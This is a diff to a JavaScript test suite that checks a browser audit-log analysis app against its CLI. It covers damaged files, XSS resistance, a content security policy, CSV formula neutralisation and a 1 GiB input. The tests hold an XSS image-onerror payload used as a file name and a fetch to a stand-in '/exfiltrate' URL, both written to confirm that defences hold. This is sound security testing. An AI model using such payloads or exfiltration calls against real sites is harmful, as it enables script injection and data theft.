@@ -10,7 +10,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer } from 'node:http';
-import { readFile, mkdir, writeFile } from 'node:fs/promises';
+import { readFile, mkdir, writeFile, open as openFile, rm } from 'node:fs/promises';
+import { readdirSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { execFileSync } from 'node:child_process';
 import { join, dirname, extname, basename } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -119,20 +121,14 @@ async function downloadText(page, testid) {
   return { name: download.suggestedFilename(), text: await readFile(path, 'utf8') };
 }
 
+// Every fixture the CLI reads (the good ones and the damaged ones it still reads).
+const FATAL = new Set(['empty.csv', 'not-an-audit-export.csv', 'workbook-dropped-by-mistake.xlsx', 'archive-dropped-by-mistake.zip', 'binary-garbage.bin']);
 const FORMATS = [
-  'purview-article-scenario.csv',
-  'classic-compliance-utf8-bom.csv',
-  'powershell-export-en-au.csv',
-  'powershell-subset-utf16le-bom.csv',
-  'management-api-content.json',
-  'ndjson-with-content-created.jsonl',
-  'graph-audit-query.json',
-  'sentinel-officeactivity-ingestion.csv',
-  'mailbox-audit-log.csv',
-  'malformed-rows.csv',
+  ...readdirSync(fixtures).filter((f) => /\.(csv|json|jsonl)$/.test(f)),
+  ...readdirSync(join(fixtures, 'bad')).filter((f) => !FATAL.has(f)).map((f) => `bad/${f}`),
 ];
 
-test('every format: headline numbers, class counts and the JSON report equal the CLI', async () => {
+test('every fixture: headline numbers, class counts and the JSON report equal the CLI', async () => {
   const { page, context, problems } = await openApp();
   for (const name of FORMATS) {
     const path = join(fixtures, name);
@@ -140,7 +136,7 @@ test('every format: headline numbers, class counts and the JSON report equal the
     // Wait until the result shown is this file's.
     await page.waitForFunction(
       (n) => document.querySelector('[data-testid=sources]')?.textContent.includes(n),
-      name,
+      basename(name),
       { timeout: 30000 },
     );
     const expected = cliSummary([path]);
@@ -249,4 +245,139 @@ test('a page load plus a full analysis requests nothing but the app\'s own files
   assert.ok(requests.some((u) => u.endsWith('worker_bg.wasm')), 'the worker was loaded');
   await writeFile(join(artifacts, 'requests.txt'), requests.join('\n') + '\n');
   await context.close();
+});
+
+test('unusable files get the same clear reason as from the CLI', async () => {
+  const { page, context, problems } = await openApp();
+  for (const name of FATAL) {
+    const path = join(fixtures, 'bad', name);
+    let cliMessage = '';
+    try {
+      execFileSync(cli, ['summary', path], { encoding: 'utf8', stdio: 'pipe' });
+      assert.fail(`${name}: the CLI accepted it`);
+    } catch (e) {
+      assert.equal(e.status, 2, name);
+      cliMessage = e.stderr.trim().split(': ').slice(2).join(': ');
+    }
+    await page.setInputFiles('[data-testid=file-input]', path);
+    await page.waitForSelector('[data-testid=error]');
+    await page.waitForFunction((n) => document.querySelector('[data-testid=error]')?.textContent.includes(n), name);
+    const shown = await page.textContent('[data-testid=error]');
+    assert.ok(shown.includes(cliMessage), `${name}: "${shown}" does not say "${cliMessage}"`);
+  }
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test('an XSS corpus in every displayed field stays inert and the layout holds', async () => {
+  const { page, context, problems } = await openApp();
+  const scriptsBefore = await page.locator('script').count();
+  const buffer = await readFile(join(fixtures, 'bad', 'xss-in-every-field.csv'));
+  await page.setInputFiles('[data-testid=file-input]', { name: "<img src=x onerror=alert('file')>.csv", mimeType: 'text/csv', buffer });
+  await waitForResult(page);
+  assert.ok((await page.textContent('[data-testid=sources]')).includes("<img src=x onerror=alert('file')>.csv"));
+  const rows = page.locator('[data-testid=events-table] tr.row');
+  const n = await rows.count();
+  assert.equal(n, 8);
+  for (let i = 0; i < n; i++) {
+    await rows.nth(i).click();
+    await page.waitForSelector('[data-testid=detail-panel]');
+  }
+  assert.equal(await page.locator('img').count(), 0, 'no <img> was created');
+  assert.equal(await page.locator('script').count(), scriptsBefore, 'no <script> was added');
+  assert.equal(await page.locator('svg [onload], svg circle').count(), 0, 'no SVG from the data');
+  assert.equal(await page.locator('style').count(), 0, 'no <style> from the data');
+  assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), 'none');
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+  assert.ok(overflow <= 1, `a 4,000-character string widened the page by ${overflow}px`);
+  assert.ok((await page.textContent('[data-testid=raw-record]')).length > 0);
+  await page.screenshot({ path: join(artifacts, 'xss.png'), fullPage: false });
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test('the CSP blocks any destination but the app\'s own origin', async () => {
+  const { page, context } = await openApp();
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    let fetched = 'no';
+    try {
+      await fetch('http://127.0.0.2:9/exfiltrate?data=1');
+      fetched = 'yes';
+    } catch {
+      fetched = 'blocked';
+    }
+    await new Promise((r) => setTimeout(r, 100));
+    return { fetched, violations };
+  });
+  assert.equal(outcome.fetched, 'blocked');
+  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
+  await context.close();
+});
+
+/** RFC 4180, as a spreadsheet reads it. */
+function parseCsv(text) {
+  const rows = [];
+  let row = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(field); field = ''; }
+    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
+    else field += c;
+  }
+  if (field || row.length) { row.push(field); rows.push(row); }
+  return rows;
+}
+
+test('the CSV export round-trips in a spreadsheet parser with every formula neutralised', async () => {
+  const { page, context } = await openApp();
+  const path = join(fixtures, 'bad', 'xss-in-every-field.csv');
+  await page.setInputFiles('[data-testid=file-input]', path);
+  await waitForResult(page);
+  const csv = await downloadText(page, 'download-csv');
+  const [header, ...rows] = parseCsv(csv.text);
+  assert.equal(rows.length, 8);
+  const col = (name) => header.indexOf(name);
+  const lines = execFileSync(cli, ['events', path, '--jsonl'], { encoding: 'utf8' }).trim().split('\n').map((l) => JSON.parse(l));
+  for (const row of rows) {
+    assert.equal(row.length, header.length);
+    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell starts like a formula: ${cell.slice(0, 40)}`);
+    const subject = row[col('subject')];
+    const original = lines.find((l) => l.subject === subject || `'${l.subject}` === subject)?.subject;
+    assert.ok(original !== undefined, `subject survives the round trip: ${subject.slice(0, 40)}`);
+    assert.equal(subject, /^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
+  }
+  await context.close();
+});
+
+test('a file far larger than any record streams through with a clear message', async () => {
+  const { page, context, problems } = await openApp();
+  // 1 GiB: a valid header, then zeros with no line break (sparse, so it costs no disk).
+  const path = join(tmpdir(), 'sendas-lens-1gib.csv');
+  const handle = await openFile(path, 'w');
+  await handle.write('CreationDate,UserIds,Operations,AuditData\n');
+  await handle.truncate(1 << 30);
+  await handle.close();
+  try {
+    await page.setInputFiles('[data-testid=file-input]', path);
+    await page.waitForSelector('[data-testid=progress]');
+    await page.waitForFunction(() => document.querySelector('[data-testid=sources]')?.textContent.includes('sendas-lens-1gib.csv'), null, { timeout: 120000 });
+    const shown = await headline(page);
+    assert.equal(shown.numbers['rows-read'], 1);
+    assert.equal(shown.numbers.rejected, 1);
+    await page.click('.card-button');
+    assert.match(await page.textContent('[data-testid=rejected-list]'), /larger than 64 MiB/);
+    assert.deepEqual(problems, []);
+  } finally {
+    await rm(path, { force: true });
+    await context.close();
+  }
 });
